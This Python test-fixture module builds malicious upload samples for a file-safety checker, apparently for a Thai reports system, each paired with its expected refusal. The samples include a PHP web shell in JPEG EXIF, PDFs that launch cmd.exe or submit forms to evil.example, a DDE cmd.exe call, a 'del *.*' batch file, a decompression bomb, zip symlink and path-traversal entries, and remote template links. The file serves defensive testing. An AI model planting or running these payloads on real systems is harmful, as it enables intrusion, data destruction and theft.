"""Files that mean harm, and good ones of each kind, made when the tests run; none is ever stored."""

import io
import stat
import struct
import zipfile
import zlib

from reports.evidence import refusals
from tests.reports.readers import office

CONTENT = "application/vnd.openxmlformats-officedocument."
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
HTML = b"<html><script>alert(1)</script></html>"


# PDF -----------------------------------------------------------------------------------------------


def pdf(
    catalog: str = "", *, objects: dict[int, bytes | str] | None = None, version: str = "1.7"
) -> bytes:
    """A PDF of one empty page; `catalog` goes into its catalog, `objects` from 10 on beside it."""
    bodies: dict[int, bytes] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    bodies |= {
        number: body.encode() if isinstance(body, str) else body
        for number, body in (objects or {}).items()
    }
    out, places = io.BytesIO(), {}
    out.write(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    for number, body in bodies.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    size = max(places) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        place, mark = (places[number], b"n") if number in places else (0, b"f")
        out.write(b"%010d %05d %s \n" % (place, 0 if mark == b"n" else 65535, mark))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, table))
    return out.getvalue()


def stream(data: bytes, entries: str = "") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries.encode(), data)


def pdf_with_embedded(name: str, data: bytes) -> bytes:
    return pdf(
        "/Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>",
        objects={
            10: f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 11 0 R >> >>",
            11: stream(data, "/Type /EmbeddedFile"),
        },
    )


def pdf_with_password(password: str = "secret") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(password, "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_hidden_in_objects() -> bytes:
    """Its JavaScript lies in a stream of objects."""
    packed = b"12 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    data = zlib.compress(packed)
    entries = "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"
    return pdf(objects={10: stream(data, entries)})


# Pictures ------------------------------------------------------------------------------------------


def picture(
    format: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **more
) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, size, **({"color": (200, 30, 30)} if mode == "RGB" else {})).save(
        out, format, **more
    )
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))


def png_bomb(side: int = 30_000) -> bytes:
    """A few kilobytes that claim and hold 900 million dots."""
    head = struct.pack("!LLBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * ((side // 8 + 1) * 2_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def huge_jpeg() -> bytes:
    """The head of a picture of 65,000 × 65,000 dots."""
    data = bytearray(picture("JPEG"))
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack("!HH", 65_000, 65_000)
    return bytes(data)


def jpeg_with_php() -> bytes:
    """A program in its EXIF, where it was taken, and lying on its side."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "<?php system($_GET['c']); ?>"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[2] = (18.0, 34.0, 50.0)
    return picture("JPEG", exif=exif, comment=b"<script>alert(1)</script>")


# Word and Excel ------------------------------------------------------------------------------------

WORD = f"{CONTENT}wordprocessingml.document.main+xml"
SHEET = f"{CONTENT}spreadsheetml.sheet.main+xml"


def content_types(*overrides: tuple[str, str]) -> str:
    parts = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides
    )
    return (
        f'<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{parts}</Types>'
    )


def _parts(main: str, kind: str, body: str, relations, parts, types) -> dict[str, str | bytes]:
    folder, name = main.rsplit("/", 1)
    made: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types((main, kind), *types),
        "_rels/.rels": office.relations(("r1", "officeDocument", main)),
        main: body,
    }
    if relations:
        made[f"{folder}/_rels/{name}.rels"] = office.relations(*relations)
    return made | (parts or {})


def docx_parts(body="", *, relations=(), parts=None, types=(), kind=WORD):
    document = office.part(f"<w:body>{body or office.paragraph('คำสั่ง')}</w:body>")
    return _parts("word/document.xml", kind, document, relations, parts, types)


def docx(*args, **more) -> bytes:
    return office.zipped(docx_parts(*args, **more))


def xlsx(*, relations=(), parts=None, types=(), kind=SHEET) -> bytes:
    workbook = f'<workbook xmlns="{office.S}"><sheets/></workbook>'
    return office.zipped(_parts("xl/workbook.xml", kind, workbook, relations, parts, types))


def with_entry(data: bytes, name: str, content: bytes = b"x", mode: int = 0) -> bytes:
    """An archive with one more entry, under any name and mode."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = name
        entry.external_attr = mode << 16
        archive.writestr(entry, content)
    return out.getvalue()


def locked(data: bytes) -> bytes:
    """The same archive whose first entry says that it is encrypted."""
    out = bytearray(data)
    out[6] |= 1
    out[out.index(b"PK\x01\x02") + 8] |= 1
    return bytes(out)


def ole(stream_name: str) -> bytes:
    return refusals_ole() + stream_name.encode("utf-16-le") + b"\0" * 512


def refusals_ole() -> bytes:
    from reports.evidence.kinds import OLE

    return OLE + b"\0" * 504


def eicar() -> bytes:
    """The test string that every scanner takes for a virus, put together so that none stops at this file."""
    return b"".join(
        (
            b"X5O!P%@AP[4",
            b"\\PZX54(P^)7CC)7}",
            b"$EICAR-",
            b"STANDARD-ANTI",
            b"VIRUS-TEST-FILE!",
            b"$H+H*",
        )
    )


# All of them ---------------------------------------------------------------------------------------

GOOD = {
    "pdf": (pdf, "คำสั่ง.pdf"),
    "jpeg": (lambda: picture("JPEG"), "ภาพประชุม.jpg"),
    "png": (picture, "ภาพหน้าจอ.png"),
    "docx": (docx, "บันทึก.docx"),
    "xlsx": (xlsx, "ตาราง.xlsx"),
}
REMOTE = "https://evil.example/x"

# What it is → the file, the name it comes with, the sentence it is refused with.
HOSTILE = {
    # Not what their names say.
    "a page named .pdf": (lambda: b"<!DOCTYPE html>" + HTML, "รายงาน.pdf", refusals.WEB_PAGE),
    "a drawing with a script": (
        lambda: b'<?xml version="1.0"?><svg xmlns="x"><script/></svg>',
        "ภาพ.png",
        refusals.DRAWING,
    ),
    "a program named .docx": (lambda: b"MZ\x90\0" + b"\0" * 200, "หนังสือ.docx", refusals.PROGRAM),
    "a batch file named .pdf": (lambda: b"@echo off\r\ndel *.*", "a.pdf", refusals.SCRIPT_FILE),
    "a GIF named .jpg": (
        lambda: picture("GIF", mode="P"),
        "ภาพ.jpg",
        refusals.OTHER_PICTURE.format("GIF"),
    ),
    "an archive named .docx": (
        lambda: office.zipped({"a.txt": "x", "b.txt": "y"}),
        "a.docx",
        refusals.ARCHIVE,
    ),
    "an empty file": (lambda: b"", "a.pdf", refusals.EMPTY),
    "an old Word file": (lambda: ole("WordDocument"), "a.docx", refusals.OLD_WORD),
    # PDF
    "a PDF with a password": (pdf_with_password, "a.pdf", refusals.PDF_ENCRYPTED),
    "a PDF that runs JavaScript": (
        lambda: pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "a.pdf",
        refusals.PDF_SCRIPT,
    ),
    "a PDF that launches a program": (
        lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "a.pdf",
        refusals.PDF_LAUNCH,
    ),
    "a PDF with a program inside": (
        lambda: pdf_with_embedded("setup.exe", b"MZ\x90"),
        "a.pdf",
        refusals.PDF_EMBEDDED.format("setup.exe"),
    ),
    "a PDF that sends a form": (
        lambda: pdf("/AA << /WC << /S /SubmitForm /F (https://evil.example/) >> >>"),
        "a.pdf",
        refusals.PDF_SENDS,
    ),
    "an XFA form": (lambda: pdf("/AcroForm << /XFA 10 0 R >>"), "a.pdf", refusals.PDF_FORM),
    "a PDF with a film": (
        lambda: pdf(objects={10: "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"}),
        "a.pdf",
        refusals.PDF_MEDIA,
    ),
    "half a PDF": (lambda: pdf()[:200], "a.pdf", refusals.PDF_DAMAGED),
    "a PDF that is a page too": (
        lambda: pdf() + HTML,
        "a.pdf",
        refusals.TWO_KINDS.format("หน้าเว็บหรือชุดคำสั่ง"),
    ),
    "a PDF that is an archive too": (
        lambda: pdf() + office.zipped({"a": "b"}),
        "a.pdf",
        refusals.TWO_KINDS.format("ไฟล์บีบอัด"),
    ),
    # Pictures
    "a picture of 900 million dots": (
        png_bomb,
        "a.png",
        refusals.PICTURE_TOO_LARGE.format("๓๐,๐๐๐ × ๓๐,๐๐๐", "๕๐"),
    ),
    "a picture of 65,000 by 65,000": (
        huge_jpeg,
        "a.jpg",
        refusals.PICTURE_TOO_LARGE.format("๖๕,๐๐๐ × ๖๕,๐๐๐", "๕๐"),
    ),
    "a picture with a page behind it": (
        lambda: picture() + b"<script src=x></script>",
        "a.png",
        refusals.TWO_KINDS.format("หน้าเว็บหรือชุดคำสั่ง"),
    ),
    "half a picture": (
        lambda: picture("JPEG", (900, 900))[:900],
        "a.jpg",
        refusals.PICTURE_DAMAGED,
    ),
    # Word and Excel
    "Word with a password": (lambda: ole("EncryptedPackage"), "a.docx", refusals.OFFICE_ENCRYPTED),
    "a bomb": (
        lambda: docx(parts={"word/media/a.xml": b"\0" * (120 << 20)}),
        "a.docx",
        refusals.OFFICE_BOMB,
    ),
    "Word with a macro": (
        lambda: docx(parts={"word/vbaProject.bin": b"x"}),
        "a.docx",
        refusals.MACRO,
    ),
    "Excel with an old macro": (
        lambda: xlsx(types=[("xl/macrosheets/s1.xml", "application/vnd.ms-excel.macrosheet+xml")]),
        "a.xlsx",
        refusals.OLD_MACRO,
    ),
    "Word with a template from elsewhere": (
        lambda: docx(relations=[("r9", "attachedTemplate", REMOTE)]),
        "a.docx",
        refusals.REMOTE_TEMPLATE.format(REMOTE),
    ),
    "Word with a picture from elsewhere": (
        lambda: docx(relations=[("r9", "image", REMOTE)]),
        "a.docx",
        refusals.REMOTE_PICTURE.format(REMOTE),
    ),
    "Excel that asks other files": (
        lambda: xlsx(relations=[("r9", "externalLink", "externalLinks/externalLink1.xml")]),
        "a.xlsx",
        refusals.EXTERNAL_LINKS,
    ),
    "Word with an OLE object": (
        lambda: docx(relations=[("r9", "oleObject", "embeddings/oleObject1.bin")]),
        "a.docx",
        refusals.OLE,
    ),
    "Word with ActiveX": (
        lambda: docx(relations=[("r9", "control", "activeX/activeX1.xml")]),
        "a.docx",
        refusals.ACTIVE_X,
    ),
    "Word that calls a program": (
        lambda: docx(
            office.paragraph(
                "<w:r><w:instrText>DDE</w:instrText></w:r>"
                "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"
            )
        ),
        "a.docx",
        refusals.DDE,
    ),
    "Word with a page inside": (
        lambda: docx(relations=[("r9", "aFChunk", "afchunk.html")]),
        "a.docx",
        refusals.WEB_PART,
    ),
    "Word with a link that runs": (
        lambda: docx(relations=[("r9", "hyperlink", "javascript:alert(1)")]),
        "a.docx",
        refusals.BAD_LINK.format("javascript:alert(1)"),
    ),
    "Word with entities that grow": (
        lambda: docx(
            parts={
                "word/styles.xml": '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
            }
        ),
        "a.docx",
        refusals.OFFICE_ENTITIES,
    ),
    "a link to another file": (
        lambda: with_entry(docx(), "word/x", b"/etc/passwd", stat.S_IFLNK | 0o777),
        "a.docx",
        refusals.OFFICE_SYMLINK,
    ),
    "a part that climbs out": (
        lambda: with_entry(docx(), "../../evil.bat"),
        "a.docx",
        refusals.OFFICE_PATHS,
    ),
    "a part twice": (
        lambda: with_entry(docx(), "WORD/document.xml", b"<a/>"),
        "a.docx",
        refusals.OFFICE_TWICE,
    ),
    "a locked part": (lambda: locked(docx()), "a.docx", refusals.OFFICE_LOCKED_PART),
    "a program inside Word": (
        lambda: docx(parts={"word/media/image1.png": b"MZ\x90\0"}),
        "a.docx",
        refusals.HIDDEN_PROGRAM.format("image1.png"),
    ),
    # Names
    "a name with two ends": (pdf, "คำสั่ง.pdf.exe", refusals.PROGRAM_NAME.format(".exe")),
    "a name that turns around": (pdf, "คำสั่ง\u202efdp.exe", refusals.TURNED_NAME),
    "a name with a NUL": (pdf, "คำสั่ง.exe\0.pdf", refusals.CONTROL_NAME),
}
